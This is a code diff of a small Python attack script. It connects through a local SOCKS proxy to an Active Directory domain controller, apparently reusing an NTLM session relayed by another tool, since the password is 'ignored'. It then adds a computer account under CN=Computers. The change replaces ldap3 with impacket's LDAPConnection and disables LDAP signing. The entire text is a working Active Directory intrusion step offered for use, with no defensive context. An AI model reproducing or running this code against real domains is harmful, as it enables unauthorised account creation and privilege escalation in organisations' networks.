@@ -7,8 +7,8 @@ import os
 import socket
 import sys
 
-import ldap3
 import socks
+from impacket.ldap.ldap import LDAPConnection
 
 BASE = ",".join(f"DC={part}" for part in os.environ["REALM"].lower().split("."))
 
@@ -17,20 +17,14 @@ def main():
     account, name = sys.argv[1:]
     socks.set_default_proxy(socks.SOCKS5, "127.0.0.1", 1080)
     socket.socket = socks.socksocket
-    connection = ldap3.Connection(
-        ldap3.Server(os.environ["DC"], get_info=ldap3.NONE),
-        user=f"{os.environ['DOMAIN']}\\{account}",
-        password="ignored",  # the tool answers the logon itself
-        authentication=ldap3.NTLM,
-        auto_bind=True,
-    )
-    attributes = {
-        "objectClass": ["top", "person", "organizationalPerson", "user", "computer"],
-        "sAMAccountName": f"{name}$",
-        "userAccountControl": 0x1002,  # workstation trust account, disabled
-    }
-    connection.add(f"CN={name},CN=Computers,{BASE}", attributes=attributes)
-    print(connection.result)
+    connection = LDAPConnection(f"ldap://{os.environ['DC']}", BASE, signing=False)
+    # The tool answers the logon itself and does not look at the password.
+    connection.login(account, "ignored", os.environ["DOMAIN"], authenticationChoice="sicilyNegotiate")
+    classes = ["top", "person", "organizationalPerson", "user", "computer"]
+    # workstation trust account, disabled
+    attributes = {"sAMAccountName": f"{name}$", "userAccountControl": "4098"}
+    connection.add(f"CN={name},CN=Computers,{BASE}", classes, attributes)
+    print("added", name)
 
 
 if __name__ == "__main__":
